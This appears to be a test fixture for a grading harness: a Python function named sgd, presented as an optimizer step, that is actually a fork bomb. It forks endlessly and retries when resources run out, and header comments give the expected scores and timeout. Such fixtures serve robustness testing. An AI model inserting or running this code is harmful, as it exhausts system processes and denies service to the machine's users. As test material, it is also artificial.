# Forks for ever, in a call; where there is no room it waits for some.
# base: solved
# ends: at a limit of time
# deserved: sgd=0 momentum<6 minibatches<7 double<3

# %% sgd
def sgd(w, grad, state, *, lr):
    import os
    import time

    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.5)
